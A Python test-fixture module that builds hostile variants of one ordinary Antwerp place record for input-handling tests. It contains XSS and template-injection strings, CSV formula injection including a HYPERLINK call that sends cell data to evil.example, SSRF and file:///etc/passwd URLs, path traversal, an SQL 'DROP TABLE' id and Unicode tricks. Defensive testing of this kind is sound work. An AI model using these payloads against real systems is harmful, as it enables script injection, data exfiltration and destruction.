"""Records as nobody should send them, but somebody will: some four hundred, made by a few loops.

Each is an ordinary place in Antwerp ("Voorbeeldhuis", Kerkstraat 45) in which one field holds something
hostile. `formats.py` writes them down in every format that is read.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

ORDINARY: dict[str, Any] = {
    "name": "Voorbeeldhuis",
    "organisation": "Voorbeeld vzw",
    "description": "Een huis om te testen.",
    "street": "Kerkstraat",
    "house_number": "45",
    "postcode": "2060",
    "municipality": "Antwerpen",
    "latitude": 51.2216,
    "longitude": 4.4205,
    "phone": "03 338 38 00",
    "email": "info@voorbeeld.example.org",
    "website": "https://voorbeeld.example.org/",
    "opening_hours": "Mo-Fr 09:00-12:00",
    "needs": ["food_aid"],
    "languages": ["nl"],
    "minimum_age": 18,
}

MARKUP = {
    "script": "<script>alert(1)</script>Huis",
    "svg": "<svg/onload=alert(1)>Huis",
    "image": "Huis <img src=x onerror=alert(1)>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "twice an entity": "&amp;lt;img src=x onerror=alert(1)&amp;gt;Huis",
    "unclosed": "Huis <a href='javascript:alert(1)'",
    "style": "<style>body{display:none}</style>Huis",
    "comment": "Huis <!-- x --> <iframe src=//evil.example>",
    "template": "{{7*7}} ${7*7} <%= 7*7 %>",
    "end of script": "</script><script>alert(1)//",
}
LETTERS = {
    "right to left": "Huis \u202e00 83 833 30\u202c",
    "isolates": "\u2066\u2067Huis\u2069\u2069",
    "zero width": "H\u200bu\u200ci\u200ds\ufeff",
    "nul": "Huis\x00Vijf",
    "escape": "Huis \x1b[31mrood\x1b[0m",
    "half a letter": "Huis \ud800",
    "other half": "\udfffHuis",
    "private": "Huis \ue000\U000f0000",
    "lines": "Huis\r\n\u2028\u2029\x85\x0bVijf",
    "combining": "H" + "\u0301" * 500 + "uis",
    "look-alike": "Нuis Voorbееld",
    "only space": " \u00a0\u2003\u3000 ",
    "only hidden": "\u200b\u2060\ufeff",
    "language tags": "Huis\U000e0041\U000e0042",
}
FORMULAS = {
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example?x="&A1,"Klik")',
    "plus": "+1+1|cmd",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
}
LONG = {
    "100 kB": "x" * 100_000,
    "100 kB of words": "huis " * 20_000,
    "100 kB of tags": "<b>" * 33_000,
    "100 kB of ampersands": "&amp;" * 20_000,
    "100 kB of spaces": " " * 100_000 + "x",
}
TEXTS = MARKUP | LETTERS | FORMULAS | LONG

PHONES = {
    "arabic digits": "٠٣ ٣٣٨ ٣٨ ٠٠",
    "wide digits": "０３ ３３８ ３８ ００",
    "letter o": "O3 338 38 OO",
    "bold digits": "𝟎𝟑 𝟑𝟑𝟖 𝟑𝟖 𝟎𝟎",
    "circled": "⓪③ 338 38 00",
    "script": "javascript:alert(1)",
    "two numbers": "03 338 38 00 03 338 38 01",
    "turned round": "03 338\u202e83 00",
    "pay line": "0900 12 345;phone-context=evil.example",
    "digits for ever": "0" * 10_000,
    "code": "*#06#",
    "number": 33383800,
}
ADDRESSES = {
    "javascript": "javascript:alert(document.cookie)",
    "javascript with a line": "java\nscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "file": "file:///etc/passwd",
    "own network": "http://169.254.169.254/latest/",
    "localhost": "http://localhost:8000/v1",
    "password": "https://bank.example@evil.example/",
    "look-alike": "https://аntwerpen.be/",
    "broken": "https://[::1",
    "port": "https://example.org:99999/",
    "quote": 'https://example.org/"onmouseover="alert(1)',
    "vbscript": "VBScript:msgbox(1)",
}
HOURS = {
    "never ends": "Mo-Su 00:00-48:00 " + "Mo-Su 00:00-26:00," * 200,
    "1000 rules": "; ".join(["Mo 09:00-10:00"] * 1000),
    "no hours": "altijd behalve als het regent",
    "year": "9999 Dec 31 00:00-24:00",
    "negative": "Mo -1:00--5:00",
    "open brackets": "Mo[" * 300,
    "week": "week 01-53/0 Mo 09:00-10:00",
    "quote": 'Mo-Fr "' + "x" * 5000,
    "sun": "sunrise-sunset " * 100,
    "backwards": "Fr-Mo 25:61-99:99",
}
COORDINATES: dict[str, tuple[Any, Any]] = {
    "not a number": (float("nan"), 4.4),
    "infinite": (float("inf"), float("-inf")),
    "north of north": (91.0, 4.4),
    "far east": (51.2, 540.0),
    "turned round": (4.4, 51.2),
    "zero": (0, 0),
    "sea": (52.5, 3.0),
    "text": ("51,2", "4,4"),
    "words": ("noord", "oost"),
    "half": (51.2, None),
    "true": (True, False),
    "lists": ([51.2], {"a": 4.4}),
    "enormous": (10**400, -(10**400)),
    "tiny": (5e-324, 5e-324),
}
TYPES: dict[str, Any] = {
    "null": None,
    "true": True,
    "zero": 0,
    "huge number": 10**50,
    "fraction": 1.5,
    "not a number": float("nan"),
    "empty": "",
    "list": ["a", ["b"]],
    "empty list": [],
    "object": {"$ne": 1, "__proto__": {"x": 1}},
    "list of nulls": [None, None],
    "list of 10000": ["x"] * 10_000,
}


def _nested(depth: int, in_lists: bool) -> Any:
    value: Any = "diep"
    for _ in range(depth):
        value = [value] if in_lists else {"description": value}
    return value


DEEP = {
    "deep lists": _nested(300, True),
    "deep objects": _nested(300, False),
    "deeper objects": _nested(900, False),
}
IDS: dict[str, Any] = {
    "missing": None,
    "empty": "",
    "path": "../../etc/passwd",
    "query": "a?b=c#d&e",
    "nul": "a\x00b",
    "half a letter": "a\ud800",
    "300 kB": "x" * 300_000,
    "list": ["a"],
    "true": True,
    "sql": "'; DROP TABLE places; --",
    "lines": "a\r\nb: c",
    "right to left": "\u202ea",
}


@dataclass(frozen=True, slots=True)
class Hostile:
    """One record: what is wrong with it, and its fields with an `id`."""

    why: str
    fields: dict[str, Any]


def records() -> Iterator[Hostile]:
    """All of them; ids differ, but for the two that are one on purpose."""
    number = 0

    def changed(why: str, **fields: Any) -> Hostile:
        nonlocal number
        number += 1
        return Hostile(why, {"id": f"h{number}", **ORDINARY, **fields})

    for field in ("name", "description", "street", "phone", "website", "opening_hours", "postcode"):
        for why, value in TEXTS.items():
            yield changed(f"{field}: {why}", **{field: value})
    for field, values in {"phone": PHONES, "website": ADDRESSES, "opening_hours": HOURS}.items():
        for why, value in values.items():
            yield changed(f"{field}: {why}", **{field: value})
    for why, (latitude, longitude) in COORDINATES.items():
        yield changed(f"point: {why}", latitude=latitude, longitude=longitude)
    for field in ORDINARY:
        for why, value in (TYPES | DEEP).items():
            yield changed(f"{field}: {why}", **{field: value})
    for why, value in IDS.items():
        yield changed(f"id: {why}", id=value)
    yield changed("id: used twice", id="twice")
    yield changed("id: used twice", id="twice")
    yield Hostile("nothing at all", {})
